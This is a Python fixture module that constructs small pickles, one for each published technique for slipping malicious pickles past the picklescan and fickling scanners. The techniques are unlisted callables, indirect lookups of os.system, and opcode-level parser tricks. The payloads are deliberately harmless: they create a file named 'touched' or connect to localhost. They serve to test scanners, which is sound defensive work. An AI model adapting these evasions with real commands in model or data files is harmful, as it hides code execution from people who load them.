"""One pickle for each way in which a published bypass got past picklescan or fickling, each as small and harmless.

The classes are those of their advisories, changelogs and deny lists (picklescan to 1.0.5, fickling to 0.1.12): what was
missing on the list, what reaches a listed name by another road, and what the scanner parsed otherwise than pickle.
Where it can, a payload makes the file ``touched`` in the current folder, so that a control shows that it is live.
"""

from __future__ import annotations

import struct
from collections.abc import Mapping

from formats.pickles.opcodes import called, listed, mapping, named, proto, sequence, text, whole

TOUCH = text("touch touched")
CODE = text("open('touched','w').close()")
ROT13 = text("bcra('gbhpurq','j').pybfr()")
SYSTEM = named("os", "system")
EVALUATE, OBJECTS = named("builtins", "eval"), called(named("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
COMPILED = called(named("builtins", "compile"), CODE, CODE, text("exec"))
EMPTY_ARRAY = called(named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"), b"K\0\x85", b"C\1b")
COMMAND = listed(text("touch"), text("touched"))
NESTED = proto(called(SYSTEM, TOUCH))


def _short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def _raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def _method(module: str, name: str, *arguments: bytes) -> bytes:
    """A call of a method, which takes an object of its class first; None does where it is not looked at."""
    return called(_stack(module, name), *arguments)


def _stack(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def _import(module: str) -> bytes:
    return called(named("importlib", "import_module"), text(module))


_INSTANCE = b")\x81"
_ADDRESS = text("127.0.0.1") + whole(9) + b"\x86"

# Names that were not on a list: what they call runs a command or code, writes a file, or goes to the network.
UNLISTED: Mapping[str, bytes] = {
    "pty.spawn": called(named("pty", "spawn"), COMMAND),
    "pip.main": called(named("pip", "main"), listed(text("--version"))),
    "pip._internal.main": called(named("pip._internal", "main"), listed(text("--version"))),
    "ensurepip._run_pip": called(named("ensurepip", "_run_pip"), listed(text("--version"))),
    "venv.create": called(named("venv", "create"), text("touched")),
    "runpy._run_code": called(named("runpy", "_run_code"), CODE, b"}"),
    "runpy.run_module": called(named("runpy", "run_module"), text("__hello__")),
    "timeit.timeit": called(named("timeit", "timeit"), CODE, text("pass"), named("time", "time"), whole(1)),
    "cProfile.run": called(named("cProfile", "run"), CODE),
    "cProfile.runctx": called(named("cProfile", "runctx"), CODE, b"}", b"}"),
    "profile.run": called(named("profile", "run"), CODE),
    "bdb.Bdb.run": called(_stack("bdb", "Bdb.run"), called(named("bdb", "Bdb")), CODE),
    "pdb.run": called(named("pdb", "run"), CODE),
    "trace.Trace.run": _method("trace", "Trace.run", called(named("trace", "Trace")), CODE),
    "trace.Trace.runctx": _method("trace", "Trace.runctx", called(named("trace", "Trace")), CODE),
    "doctest.debug_script": called(named("doctest", "debug_script"), CODE),
    "code.interact": called(named("code", "interact"), text(""), named("posix", "getcwd")),
    "code.InteractiveInterpreter.runsource": _method(
        "code", "InteractiveInterpreter.runsource", called(named("code", "InteractiveInterpreter")), CODE
    ),
    "idlelib.run": _method("idlelib.run", "Executive.runcode", b"N", CODE),
    "idlelib.pyshell": _method("idlelib.pyshell", "ModifiedInterpreter.runcommand", b"N", CODE),
    "idlelib.calltip": called(named("idlelib.calltip", "get_entity"), CODE),
    "lib2to3 grammar": _method("lib2to3.pgen2.grammar", "Grammar.loads", b"N", _raw(NESTED)),
    "lib2to3 pgen": _method("lib2to3.pgen2.pgen", "ParserGenerator.make_label", b"N", b"N", CODE),
    "pydoc.pipepager": called(named("pydoc", "pipepager"), text(""), TOUCH),
    "pydoc.locate": called(named("pydoc", "locate"), text("xml.dom.pulldom")),
    "imaplib.IMAP4_stream": called(named("imaplib", "IMAP4_stream"), TOUCH),
    "uuid._get_command_stdout": called(named("uuid", "_get_command_stdout"), text("touch"), text("touched")),
    "_osx_support": called(named("_osx_support", "_read_output"), TOUCH),
    "_aix_support": called(named("_aix_support", "_read_cmd_output"), TOUCH),
    "_pyrepl.pager": called(named("_pyrepl.pager", "pipe_pager"), text(""), TOUCH),
    "test.support": called(named("test.support.script_helper", "assert_python_ok"), text("-c"), CODE),
    "asyncio.unix_events": _method("asyncio.unix_events", "_UnixSubprocessTransport._start", b"N", COMMAND),
    "_posixsubprocess": called(named("_posixsubprocess", "fork_exec"), COMMAND),
    "multiprocessing.util": called(
        named("multiprocessing.util", "spawnv_passfds"), _raw(b"/usr/bin/touch"), COMMAND, b")"
    ),
    "posix.posix_spawn": called(named("posix", "posix_spawn"), text("/usr/bin/touch"), COMMAND, b"}"),
    "nt.system": called(named("nt", "system"), TOUCH),
    "commands.getoutput": called(named("commands", "getoutput"), TOUCH),
    "subprocess.getoutput": called(named("subprocess", "getoutput"), TOUCH),
    "webbrowser.get": called(named("webbrowser", "get"), text("none such")),
    "site.addpackage": called(named("site", "addsitedir"), text(".")),
    "atexit.register": called(named("atexit", "register"), SYSTEM, TOUCH),
    "_xxsubinterpreters": called(
        named("_xxsubinterpreters", "run_string"), called(named("_xxsubinterpreters", "create")), CODE
    ),
    "_interpreters": called(named("_interpreters", "exec"), called(named("_interpreters", "create")), CODE),
    "marshal.loads": called(named("marshal", "loads"), _raw(b"N")),
    "types.CodeType": called(
        named("types", "FunctionType"), called(named("builtins", "compile"), CODE, CODE, text("exec")), b"}"
    )
    + b")R",
    "cloudpickle": called(named("cloudpickle.cloudpickle", "subimport"), text("os")),
    "dill": called(named("dill._dill", "_import_module"), text("os")),
    "joblib": called(named("joblib", "load"), text("touched")),
    "ctypes.CDLL": called(named("ctypes", "CDLL"), b"N"),
    "gc.get_objects": called(named("gc", "get_objects")),
    "sys.setprofile": called(named("sys", "setprofile"), SYSTEM),
    "numpy f2py": called(named("numpy.f2py.crackfortran", "myeval"), CODE),
    "numpy f2py getlincoef": called(named("numpy.f2py.crackfortran", "getlincoef"), CODE, b"}"),
    "numpy runstring": called(named("numpy.testing._private.utils", "runstring"), CODE, b"}"),
    "torch collect_env": called(named("torch.utils.collect_env", "run"), TOUCH),
    "torch execWrapper": called(named("torch.jit.unsupported_tensor_ops", "execWrapper"), CODE, b"}", b"}"),
    "torch bottleneck": called(named("torch.utils.bottleneck.__main__", "run_cprofile"), CODE, b"}"),
    "torch guards": _method("torch._dynamo.guards", "GuardBuilder.get", b"N", CODE),
    "torch ShapeEnv": _method(
        "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", b"N", CODE, b")"
    ),
    "torch codecache": called(named("torch._inductor.codecache", "compile_file"), text(""), text(""), COMMAND),
    "torch config": _method("torch.utils._config_module", "ConfigModule.load_config", b"N", _raw(NESTED)),
    "torch.storage": called(named("torch.storage", "_load_from_bytes"), _raw(NESTED)),
    "torch.load": called(named("torch.serialization", "load"), text("touched")),
    "builtins.breakpoint": called(named("builtins", "breakpoint")),
    "__builtin__.execfile": called(named("__builtin__", "execfile"), text("touched")),
    "builtins.help": called(named("builtins", "help"), text("keywords")),
    "logging.FileHandler": called(named("logging", "FileHandler"), text("touched")),
    "_io.FileIO": called(named("_io", "FileIO"), text("touched"), text("w")),
    "io.open": called(named("io", "open"), text("touched"), text("w")),
    "distutils.write_file": called(named("distutils.file_util", "write_file"), text("touched"), listed(text("x"))),
    "shutil.rmtree": called(named("shutil", "rmtree"), text("no such folder")),
    "tempfile.mkdtemp": called(named("tempfile", "mkdtemp"), text(""), text("touched"), text(".")),
    "urllib": called(named("urllib.request", "urlopen"), text("http://127.0.0.1:9/")),
    "ssl": called(named("ssl", "get_server_certificate"), _ADDRESS),
    "socket": called(named("socket", "create_connection"), _ADDRESS),
    "requests": called(named("requests.api", "get"), text("http://127.0.0.1:9/")),
    "aiohttp": called(named("aiohttp", "request"), text("GET"), text("http://127.0.0.1:9/")),
}

# Roads to a listed name that do not name it.
INDIRECT: Mapping[str, bytes] = {
    "operator.attrgetter": called(called(named("operator", "attrgetter"), text("system")), _import("os"))
    + TOUCH
    + b"\x85R",
    "operator.methodcaller": called(called(named("operator", "methodcaller"), text("system"), TOUCH), _import("os")),
    "_operator.methodcaller": called(called(named("_operator", "methodcaller"), text("system"), TOUCH), _import("os")),
    "operator.itemgetter": called(called(named("_operator", "itemgetter"), text("os")), named("sys", "modules")),
    "pkgutil.resolve_name": called(called(named("pkgutil", "resolve_name"), text("os:system")), TOUCH),
    "importlib": called(named("builtins", "getattr"), _import("os"), text("system")) + TOUCH + b"\x85R",
    "functools.partial": called(named("functools", "partial"), SYSTEM, TOUCH) + b")R",
    "functools.reduce": called(
        called(named("functools", "reduce"), named("builtins", "getattr"), listed(text("system")), _import("os")), TOUCH
    ),
    "builtins.map": called(named("builtins", "list"), called(named("builtins", "map"), SYSTEM, listed(TOUCH))),
    "a longer module": _stack("os.path", "os.system") + TOUCH + b"\x85R",
    "another module's os": _stack("shutil", "os.system") + TOUCH + b"\x85R",
    "a package that imports it": _stack("torch.serialization", "os.system") + TOUCH + b"\x85R",
    "__builtins__ of a module": _stack("shutil", "__builtins__") + b"0" + called(named("builtins", "eval"), CODE),
    "sys.modules": called(_stack("sys", "modules.get"), text("os")) + text("system") + b"\x86" + b"0" + b"N",
    "a bound method": called(_stack("builtins", "str.__class__"), text("x")),
    "__reduce_ex__": called(_stack("builtins", "object.__reduce_ex__"), text("x"), whole(2)),
}

# What a scanner reads otherwise than the machine that runs it.
PARSED_OTHERWISE: Mapping[str, bytes] = {
    "STACK_GLOBAL out of the memo": text("os") + b"q\1" + text("system") + b"q\2" + b"00h\1h\2\x93" + TOUCH + b"\x85R",
    "STACK_GLOBAL out of MEMOIZE": b"\x8c\2os\x94\x8c\6system\x94" + b"00h\0h\1\x93" + TOUCH + b"\x85R",
    "STACK_GLOBAL out of DUP": text("os") + b"2" + text("system") + b"\x93" + TOUCH + b"\x85R",
    "a memo written twice": text("torch")
    + b"q\1"
    + text("os")
    + b"q\1"
    + b"00h\1"
    + text("system")
    + b"\x93"
    + TOUCH
    + b"\x85R",
    "LONG_BINPUT": text("os") + b"r\xff\xff\0\0" + b"0j\xff\xff\0\0" + text("system") + b"\x93" + TOUCH + b"\x85R",
    "PUT and GET as text": b"S'os'\np7\n0g7\nS'system'\n\x93" + TOUCH + b"\x85R",
    "short and long strings": _short("os") + b"\x8d" + struct.pack("<Q", 6) + b"system\x93" + TOUCH + b"\x85R",
    "an escaped string": b"S'\\x6fs'\nV\\u0073ystem\n\x93" + TOUCH + b"\x85R",
    "PROTO in the middle": b"\x80\x04" + SYSTEM + b"\x80\x00" + TOUCH + b"\x80\x05\x85R",
    "a FRAME around a part": b"\x95\x0b\0\0\0\0\0\0\0" + SYSTEM + TOUCH + b"\x85R",
    "INST": b"(" + TOUCH + b"ios\nsystem\n",
    "OBJ": b"(" + SYSTEM + TOUCH + b"o",
    "NEWOBJ": SYSTEM + TOUCH + b"\x85\x81",
    "NEWOBJ_EX": SYSTEM + TOUCH + b"\x85}\x92",
    "EXT1": b"\x82\x7f" + TOUCH + b"\x85R",
    "a result that is popped": called(SYSTEM, TOUCH) + b"0N",
    "a result below a mark": b"(" + called(SYSTEM, TOUCH) + b"1N",
    "a result that is used": called(SYSTEM, TOUCH) + b"q\1h\1\x86",
    "a result as a state": named("collections", "OrderedDict")
    + b")R"
    + mapping({text("a"): called(SYSTEM, TOUCH)})
    + b"b",
    "__setstate__ by BUILD": named("argparse", "Namespace")
    + _INSTANCE
    + mapping({text("__setstate__"): SYSTEM})
    + b"b"
    + TOUCH
    + b"b",
    "BUILD on a function": named("numpy", "size")
    + b"q\1"
    + b"}"
    + mapping({text("shape"): SYSTEM})
    + b"\x86b"
    + TOUCH
    + b"\x85R",
    "__setitem__ of another": called(named("collections", "defaultdict"), SYSTEM) + TOUCH + b"N" + b"s",
    "append of another": called(named("collections", "deque")) + called(SYSTEM, TOUCH) + b"a",
    "a broken end": called(SYSTEM, TOUCH) + b"\xff",
    "a cut end": called(SYSTEM, TOUCH) + b"X\xff\0\0\0",
    "an unknown opcode": called(SYSTEM, TOUCH) + b"\x99",
    "a persistent id that is called": sequence(text("storage"), SYSTEM, text("0"), text("cpu"), whole(1))
    + b"Q"
    + called(SYSTEM, TOUCH),
    "a name over two lines": b"cos\nsystem\n" + b"S'touch touched'\n\x85R",
    "a pickle in a pickle": called(named("pickle", "loads"), _raw(NESTED)),
    "a pickle in _pickle": called(named("_pickle", "loads"), _raw(NESTED)),
    "a pickle in an array": EMPTY_ARRAY
    + sequence(b"K\1", b"K\1\x85", OBJECTS, b"\x89", listed(called(SYSTEM, TOUCH)))
    + b"b",
    "basichandlers": called(
        named("torch.utils.data.datapipes.utils.decoder", "basichandlers"), text("pkl"), _raw(NESTED)
    ),
    "_codecs.encode": called(named("builtins", "eval"), called(named("_codecs", "encode"), CODE, text("latin1"))),
    "rot13": called(named("builtins", "eval"), called(named("codecs", "decode"), ROT13, text("rot13"))),
}

BYPASSES: Mapping[str, bytes] = {**UNLISTED, **INDIRECT, **PARSED_OTHERWISE}
